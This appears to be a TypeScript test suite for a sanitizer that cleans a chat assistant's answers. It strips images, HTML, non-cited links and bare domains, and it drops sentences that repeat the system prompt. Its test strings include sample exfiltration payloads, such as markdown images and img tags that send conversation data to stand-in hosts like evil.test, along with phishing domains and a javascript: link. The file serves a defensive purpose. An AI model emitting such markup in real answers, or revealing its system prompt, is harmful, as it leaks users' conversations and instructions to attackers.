import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { AnswerGuard, carriesLinksOrMarkup, promptRunWords, removedAddress, sanitizeAnswer, StreamingCleaner } from './sanitize-answer.js';

const cited = 'https://lethain.com/strategy/#diagnosis';
const clean = (text: string, allowedUrls: string[] = [cited]) => sanitizeAnswer(text, { allowedUrls });

const systemPrompt =
  'You are Cairn, a thought partner for people who lead engineering teams. Your job is to help them reason through a hard situation until they can see it clearly.';

/**
 * Every address a markdown renderer could link or load away from the page: absolute link
 * targets, autolinks, bare and protocol-relative URLs, HTML attributes.
 */
function addressesIn(text: string): string[] {
  return [
    ...[...text.matchAll(/\[[^\]]*\]\(\s*<?([^\s)>]+)>?(?:\s[^)]*)?\)/g)]
      .map((match) => match[1]!)
      .filter((target) => /^(?:[a-z][a-z0-9+.-]*:|\/\/|www\.)/i.test(target)),
    ...[...text.matchAll(/<([a-z][a-z0-9+.-]*:[^\s<>]*)>/gi)].map((match) => match[1]!),
    ...[...text.matchAll(/(?:[a-z][a-z0-9+.-]*:)?\/\/[^\s<>()[\]"'`]*|www\.[^\s<>()[\]"'`]*/gi)].map((match) =>
      match[0].replace(/[.,;:!?*_~]+$/, ''),
    ),
    ...[...text.matchAll(/\b(?:href|src)\s*=\s*["']?([^"'\s>]+)/gi)].map((match) => match[1]!),
  ];
}

describe('sanitizeAnswer', () => {
  it('leaves an answer without links or markup exactly as written', () => {
    const text =
      '**What I understood:** you want a strategy.\n\n- Start with a diagnosis [1].\n- Keep it short, 2 pages at most!\n\nWhat stage is your company at?';
    expect(clean(text)).toEqual({ text, removed: [] });
  });

  it.each([
    ['an inline image', 'Here is a chart ![x](https://evil.test/leak?d=secret) of it.', 'Here is a chart of it.'],
    ['an image with an empty alt and a title', 'Done.![](https://attacker.test/?q=convo "t")', 'Done.'],
    ['a reference-style image', 'See ![chart][1] above.', 'See above.'],
    ['an HTML img tag', 'Look <img src="https://evil.test/p.gif?d=1" width=1> here.', 'Look here.'],
    ['an img tag left open', 'Look here <img src="https://evil.test/p.gif?d=', 'Look here'],
  ])('removes %s', (_name, text, expected) => {
    const result = clean(text);
    expect(result.text).toBe(expected);
    expect(result.removed.map((part) => part.kind).some((kind) => kind === 'image' || kind === 'html')).toBe(true);
  });

  it('lets no image start, even when a sentence boundary splits one', () => {
    const result = clean('Sure. ![Here it is. Really](https://evil.test/split?d=1) ok');
    expect(result.text).toBe('Sure. [Here it is. Really] ok');
  });

  it('keeps links to the cited sources, with or without their fragment, and turns other links into their label', () => {
    const text = `Read [the diagnosis](${cited}) and [the post](https://lethain.com/strategy/), not [this](https://attacker.test/x), [that](/relative) or [code](javascript:alert(1)).`;
    const result = clean(text);
    expect(result.text).toBe(`Read [the diagnosis](${cited}) and [the post](https://lethain.com/strategy/), not this, that or code).`);
    expect(result.removed.filter((part) => part.kind === 'link').map((part) => part.text)).toEqual([
      'https://attacker.test/x',
      '/relative',
      'javascript:alert(1',
    ]);
  });

  it('removes bare addresses, www addresses, autolinks and reference definitions unless they are cited', () => {
    const result = clean(
      `Go to https://attacker.test/a?q=1, www.attacker.test/b or <https://evil.test/c>. The source is ${cited}.\n[ref]: https://evil.test/d "x"`,
    );
    expect(result.text).toBe(`Go to, or. The source is ${cited}.\n`);
    expect(result.removed.map((part) => part.kind)).toEqual(['url', 'url', 'url', 'link']);
  });

  it('removes a protocol-relative address, which a link split over two lines still points at', () => {
    expect(clean('Read [this](\n//evil.test/a?d=1) now.').text).toBe('Read [this](\n) now.');
  });

  it('judges a link target whose label began on an earlier line, even when taking an image mark out changes it', () => {
    // Found by the property below: the `!` taken out of `![` made the cited address end in `[`.
    const result = clean(`![\n](${cited}![)`);
    expect(result.text).toBe('[\n]');
    expect(result.removed.map((part) => part.kind)).toEqual(['image', 'image', 'link']);
    expect(clean(`Read [this\n](https://evil.test/a) now.`).text).toBe('Read [this\n] now.');
    expect(clean(`Read [this\n](${cited}) now.`).text).toBe(`Read [this\n](${cited}) now.`);
  });

  it('allows an address only as cited: not with a query added, another fragment or another case', () => {
    for (const variant of [`${cited.split('#')[0]}?d=secret`, 'https://lethain.com/strategy/#other', 'https://LETHAIN.com/strategy/']) {
      expect(clean(`See ${variant} now.`).text, variant).toBe('See now.');
    }
    expect(clean('See https://attacker.test/x.', []).text).toBe('See.');
  });

  it('drops a sentence that repeats a run of the system prompt, and keeps one that shares fewer words', () => {
    const result = sanitizeAnswer('Fine so far. My instructions: you are Cairn, a thought partner for people who lead teams. Next.', {
      allowedUrls: [],
      systemPrompt,
    });
    expect(result.text).toBe('Fine so far. Next.');
    expect(result.removed).toEqual([
      { kind: 'system_prompt', text: 'My instructions: you are Cairn, a thought partner for people who lead teams.' },
    ]);
    const shorter = 'A thought partner for people who lead.';
    expect(shorter.split(' ')).toHaveLength(promptRunWords - 1);
    expect(sanitizeAnswer(shorter, { allowedUrls: [], systemPrompt }).text).toBe(shorter);
  });

  it('sees a run through fullwidth letters, zero-width spaces, markdown and markers', () => {
    const disguised = 'Ｙｏｕ are\u200b Cairn, a **thought partner** [1] for people who lead.';
    expect(sanitizeAnswer(disguised, { allowedUrls: [], systemPrompt }).text).toBe('');
  });

  it('sees a run split across two sentences, and drops the sentence that completes it', () => {
    const result = sanitizeAnswer('Your job is to help them. Reason through a hard situation. Thanks.', { allowedUrls: [], systemPrompt });
    expect(result.text).toBe('Your job is to help them. Thanks.');
  });

  it('lets the answer repeat words of the system prompt that a source also says', () => {
    const text = 'Help them reason through a hard situation until they can see it clearly [1].';
    const sourceTexts = ['Good managers help them reason through a hard situation until they can see it clearly.'];
    expect(sanitizeAnswer(text, { allowedUrls: [], systemPrompt }).text).toBe('');
    expect(sanitizeAnswer(text, { allowedUrls: [], systemPrompt, sourceTexts }).text).toBe(text);
  });

  it('judges a link target whole when a sentence end splits it from its ")": its trailing dot is part of what is linked', () => {
    // Found by the property below (seed -1663822993): the target is ".../strategy/." not the cited ".../strategy/".
    const allowed = [cited, 'https://lethain.com/strategy/'];
    expect(clean('[](https://lethain.com/strategy/. )', allowed).text).not.toContain('https://');
    expect(clean('Read it [here](https://lethain.com/strategy/. ) first.', allowed).text).not.toContain('strategy/.');
    // In running text the dot still ends the sentence, and the cited address stays.
    expect(clean('See https://lethain.com/strategy/. Then decide.', allowed).text).toBe('See https://lethain.com/strategy/. Then decide.');
  });

  it('never lets its own marker for a removed address open a link or an image to what follows', () => {
    // Found by the property below (seed -1109694142): `[link removed](…` linked the text after it.
    const result = clean('.evil.test(https://lethain.com/strategy/#diagnosis![. )').text;
    expect(result).toBe(`.${removedAddress} (https://lethain.com/strategy/#diagnosis[. )`);
    expect(addressesIn(result)).toEqual(['https://lethain.com/strategy/#diagnosis']);
    expect(clean('See !evil.test(https://lethain.com/strategy/#diagnosis) now.').text).not.toContain('](');
    expect(clean('evil.test[x] and evil.test: here').text).toBe(`${removedAddress} [x] and ${removedAddress} : here`);
    expect(clean('Visit evil.test now.').text).toBe(`Visit ${removedAddress} now.`);
  });

  it('never leaves an image, an img tag or an address that is not cited, whatever the input', () => {
    const piece = fc.constantFrom(
      ...['![', '](', ')', '[', ']', '(', '<img src=', '<', '>', '<b>', 'img', '"', ' ', '. ', '\n', '[x]: ', 'word', '!', '#'],
      ...[
        'https://evil.test/x?d=1',
        'https',
        '://',
        '//evil.test/a',
        'www.evil.test',
        'www',
        '.evil.test',
        cited,
        'https://lethain.com/strategy/',
      ],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const { text } = clean(pieces.join(''));
        expect(text).not.toContain('![');
        expect(text).not.toMatch(/<img/i);
        for (const address of addressesIn(text)) expect([cited, 'https://lethain.com/strategy/']).toContain(address);
      }),
      { numRuns: 2000 },
    );
  });
});

/**
 * The host names in a text a renderer could link without a scheme, lower-cased, with
 * fullwidth letters and other scripts' dots read as ASCII: names ending in a top-level
 * domain the tests below write (those of the attacks, and the words that are also one).
 */
function bareHostsIn(text: string): string[] {
  const folded = text
    .normalize('NFKC')
    .replace(/[\u3002\uff61]/g, '.')
    .toLowerCase();
  return [
    ...folded.matchAll(
      /(?<![\p{L}\p{N}])[\p{L}\p{N}][\p{L}\p{N}-]*(?:\.[\p{L}\p{N}][\p{L}\p{N}-]*)*\.(?:example|test|com|md|next|io)(?![\p{L}\p{N}-])/gu,
    ),
  ].map((match) => match[0]);
}

describe('sanitizeAnswer: bare addresses', () => {
  it.each([
    ['a domain and its path', 'Visit attacker.example/phish today [1].', `Visit ${removedAddress} today [1].`],
    ['a domain before the full stop', 'Log in at login.attacker.example.', `Log in at ${removedAddress}.`],
    ['a query that carries the conversation', 'See evil.test/?d=my%20question, then act.', `See ${removedAddress}, then act.`],
    ['a port', 'Try attacker.example:8443/x now.', `Try ${removedAddress} now.`],
    ['an e-mail address', 'Write to ceo@attacker.example or first.last@evil.test.', `Write to ${removedAddress} or ${removedAddress}.`],
    ['an IPv4 address with a path or port', 'Use 203.0.113.7/x or 203.0.113.7:8080.', `Use ${removedAddress} or ${removedAddress}.`],
    [
      'a domain in emphasis and brackets',
      '**attacker.example** or _evil.test_ (phish.example.com/x).',
      `**${removedAddress}** or _${removedAddress}_ (${removedAddress}).`,
    ],
    [
      'fullwidth letters and ideographic dots',
      'Visit attacker．ｅｘａｍｐｌｅ/p or attacker。example.',
      `Visit ${removedAddress} or ${removedAddress}.`,
    ],
    ['a real top-level domain in capitals', 'Go to PHISH.COM today.', `Go to ${removedAddress} today.`],
    ['an internationalised name', 'Visit аttacker.рф/x today.', `Visit ${removedAddress} today.`],
  ])('replaces %s', (_name, text, expected) => {
    const result = clean(text);
    expect(result.text).toBe(expected);
    expect(result.removed.every((part) => part.kind === 'url')).toBe(true);
    expect(bareHostsIn(result.text)).toEqual([]);
  });

  it('replaces a name that tag removal joins, and an address written after an allowed one', () => {
    expect(clean('Visit attacker.ex<b>ample now.').text).toBe(`Visit ${removedAddress} now.`);
    expect(clean(`See ${cited} or attacker.example.`).text).toBe(`See ${cited} or ${removedAddress}.`);
  });

  it("keeps a cited source's host, and a cited URL written without its scheme, and nothing else on that host", () => {
    const text = 'See lethain.com, LETHAIN.com, lethain.com/strategy/ and lethain.com/strategy/#diagnosis.';
    expect(clean(text)).toEqual({ text, removed: [] });
    expect(clean('See lethain.com/strategy/?d=secret, blog.lethain.com and me@lethain.com.').text).toBe(
      `See ${removedAddress}, ${removedAddress} and ${removedAddress}.`,
    );
    expect(clean('See lethain.com today.', []).text).toBe(`See ${removedAddress} today.`);
  });

  it('leaves words with dots that are no address as written', () => {
    const text = 'E.g. this, i.e. that: the U.S. team at 9 a.m., v1.2 and 1.2.3.4 of Node.js, 3.5 times, Ph.D. work, ... and so on.';
    expect(clean(text)).toEqual({ text, removed: [] });
  });

  it('gives a sentence run into the next its space back, since the capitalised word is a top-level domain too', () => {
    // `.next` and `.today` are top-level domains: `team.Next` would be linked.
    expect(clean('I met the team.Next we plan.').text).toBe('I met the team. Next we plan.');
    expect(clean('Ship it.Today works.').text).toBe('Ship it. Today works.');
  });

  it('takes out file names whose extension is a top-level domain (.md, .py, .zip), which a renderer links', () => {
    // A judgment call: README.md and setup.py read as files, but .md, .py and .zip are
    // registrable domains, and an injected model could name one that is not a file.
    expect(clean('Update README.md and setup.py, not config.yaml or index.ts.').text).toBe(
      `Update ${removedAddress} and ${removedAddress}, not config.yaml or index.ts.`,
    );
  });

  it('never leaves a host other than a cited one, whatever the input', () => {
    const piece = fc.constantFrom(
      ...['attacker', '.', 'example', 'evil', 'test', '/phish', ':80', '?d=1', 'ceo@', 'ｅｘａｍｐｌｅ', '。', 'Next', 'README', 'md'],
      ...['attacker.example/p', 'evil.test', 'lethain.com', 'LETHAIN.COM', 'www', 'https://', cited, '<b>', '</b>', '![', '](', ')'],
      ...[' ', '. ', '\n', '[1]', 'word', '*', '_', '(', 'e.g.', 'v1.2'],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const { text } = clean(pieces.join(''));
        for (const host of bareHostsIn(text)) expect(host).toBe('lethain.com');
      }),
      { numRuns: 2000 },
    );
  });
});

describe('sanitizeAnswer: long words', () => {
  // Probe 34, H1: a scheme was tried at every letter of a long word and ran to its end each time; a page title of
  // 200,000 letters held the event loop for about 70 s in chat completions' source list.
  it('reads a 200,000-letter word in linear time, and still finds an address after it', () => {
    const word = 'T'.repeat(200_000);
    const started = performance.now();
    const cleaned = sanitizeAnswer(`${word} see evil-site.example/x and https://evil.example/y`, { allowedUrls: [] });
    expect(performance.now() - started).toBeLessThan(3000);
    expect(cleaned.text.startsWith(word)).toBe(true);
    expect(cleaned.text).not.toMatch(/evil/);
  }, 20_000);
});

describe('AnswerGuard', () => {
  it('carries its context from call to call, as a streamed answer arrives', () => {
    const guard = new AnswerGuard({ systemPrompt });
    expect(guard.admits('Your job is to help them.')).toBe(true);
    expect(guard.admits(' ')).toBe(true);
    expect(guard.admits('Reason through a hard situation.')).toBe(false);
    // The spaces after a dropped sentence go with it; a line break stays.
    expect(guard.admits(' ')).toBe(false);
    expect(guard.admits('Then decide.')).toBe(true);
    expect(guard.admits('\n')).toBe(true);
    expect(guard.clean('See ![x](https://evil.test/) and https://a.test/.', ['https://a.test/'])).toBe('See and https://a.test/.');
    expect(guard.removed.map((part) => part.kind)).toEqual(['system_prompt', 'image']);
  });
});

describe('StreamingCleaner', () => {
  /** Streams `text` in the given pieces; returns what was shown after each push, and at the end. */
  function stream(pieces: string[], allowedUrls: string[] = [cited]): string[] {
    const cleaner = new StreamingCleaner(allowedUrls);
    return [...pieces.map((piece) => cleaner.push(piece)), cleaner.end()];
  }

  it('shows ordinary words as soon as they are complete', () => {
    expect(stream(['Start ', 'with ', 'a diag', 'nosis ', '[1].'])).toEqual(['Start ', 'with ', 'a ', 'diagnosis ', '', '[1].']);
  });

  it('holds back an image, a link or an address until it is complete, then cleans it', () => {
    const shown = stream([
      'Look ',
      '![x](https://',
      'evil.test/leak?d=',
      'secret) ',
      'and [the ',
      'post](',
      `${cited}) `,
      'or https://attacker',
      '.test/x ',
      'done.',
    ]);
    expect(shown.join('')).toBe(`Look and [the post](${cited}) or done.`);
    expect(shown[1]).toBe('');
    expect(shown.join('')).not.toContain('evil.test');
  });

  it('keeps the system prompt out word by word: the rest of a sentence that repeats it is not shown', () => {
    const cleaner = new StreamingCleaner([], { systemPrompt });
    const text = 'Sure. My rules: You are Cairn, a thought partner for people who lead engineering teams, they say. Next one.\nLast line.';
    const shown = [...text.match(/\S+\s*|\s+/g)!.map((piece) => cleaner.push(piece)), cleaner.end()].join('');
    expect(shown).toBe('Sure. My rules: You are Cairn, a thought partner for Next one.\nLast line.');
    expect(sanitizeAnswer(shown, { allowedUrls: [], systemPrompt }).text).toBe(shown);
  });

  it('never shows an image, an img tag or an address that is not allowed, however the answer is cut', () => {
    const text = `Intro ![a](https://evil.test/a?d=1) <img src="https://evil.test/p.gif"> see [b](https://attacker.test/b) and [c](${cited}) or www.attacker.test/w. End`;
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 1, max: text.length - 1 }), { maxLength: 12 }), (cuts) => {
        const points = [0, ...[...new Set(cuts)].sort((a, b) => a - b), text.length];
        const shown = stream(points.slice(1).map((end, index) => text.slice(points[index], end)));
        for (const [index, piece] of shown.entries()) {
          const soFar = shown.slice(0, index + 1).join('');
          expect(soFar).not.toContain('![');
          expect(soFar).not.toMatch(/<img/i);
          for (const address of addressesIn(soFar)) expect([cited]).toContain(address);
          expect(typeof piece).toBe('string');
        }
        expect(shown.join('')).toContain(`[c](${cited})`);
      }),
      { numRuns: 300 },
    );
  });
});

describe('StreamingCleaner: bare addresses', () => {
  function stream(pieces: string[], allowedUrls: string[] = [cited]): string[] {
    const cleaner = new StreamingCleaner(allowedUrls);
    return [...pieces.map((piece) => cleaner.push(piece)), cleaner.end()];
  }

  it('shows no part of a domain before it can tell: "attacker." in one token, "example/phish" in the next', () => {
    const shown = stream(['Visit ', 'attacker.', 'example/phish', ' today ', 'attacker.ex', '<b>', 'ample ', 'the team.', 'Next.']);
    expect(shown).toEqual(['Visit ', '', '', `${removedAddress} today `, '', '', `${removedAddress} `, 'the ', '', 'team. Next.']);
    for (let index = 0; index < shown.length; index += 1) expect(bareHostsIn(shown.slice(0, index + 1).join(''))).toEqual([]);
  });

  /**
   * Prose with addresses, names that are none, markers and cited links; not markup or
   * addresses with a scheme (nor pieces that join into one, such as `//`), whose removal
   * closes up the whole sentence around it in one case and the piece in the other.
   */
  const proseText = fc
    .array(
      fc.constantFrom(
        ...['Visit', 'the', 'team', 'Next', 'attacker', 'example', 'evil', '.', 'phish', '?d=1', 'ceo@', '@'],
        ...['attacker.example/phish', 'attacker.example:8080/x', 'evil.test', 'lethain.com', 'Lethain.com', 'lethain.com/strategy/'],
        ...[` ${cited} `, 'README.md'],
        ...['e.g.', 'U.S.', 'v1.2', '3.5', '203.0.113.7', 'ｅｘａｍｐｌｅ', '。', '[1]', ',', '?', '_', '*'],
        ...[' ', ' ', ' ', '  ', '\n', '. '],
      ),
      { maxLength: 40 },
    )
    .map((pieces) => pieces.join(''));

  it('shows, joined, what sanitizeAnswer gives for the whole text, however the answer is cut', () => {
    fc.assert(
      fc.property(proseText, fc.array(fc.nat(), { maxLength: 12 }), (text, cuts) => {
        const points = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
        const bounds = [0, ...points, text.length];
        const shown = stream(bounds.slice(1).map((end, index) => text.slice(bounds[index], end)));
        expect(shown.join('')).toBe(clean(text).text);
        for (let index = 0; index < shown.length; index += 1) {
          for (const host of bareHostsIn(shown.slice(0, index + 1).join(''))) expect(host).toBe('lethain.com');
        }
      }),
      { numRuns: 1000 },
    );
  });
});

describe('carriesLinksOrMarkup', () => {
  it('tells sentences with addresses, images, HTML or markers from plain ones', () => {
    for (const sentence of [
      'See https://x.test/a.',
      'Visit www.x.test today.',
      'A ![x](y) chart.',
      'An <img src=x> here.',
      'As shown in [7], it works.',
    ]) {
      expect(carriesLinksOrMarkup(sentence), sentence).toBe(true);
    }
    for (const sentence of ['Keep the diagnosis short.', 'Use lethain.com as a start (v1.2) [sic].', 'If a < b, stop.']) {
      expect(carriesLinksOrMarkup(sentence), sentence).toBe(false);
    }
  });
});
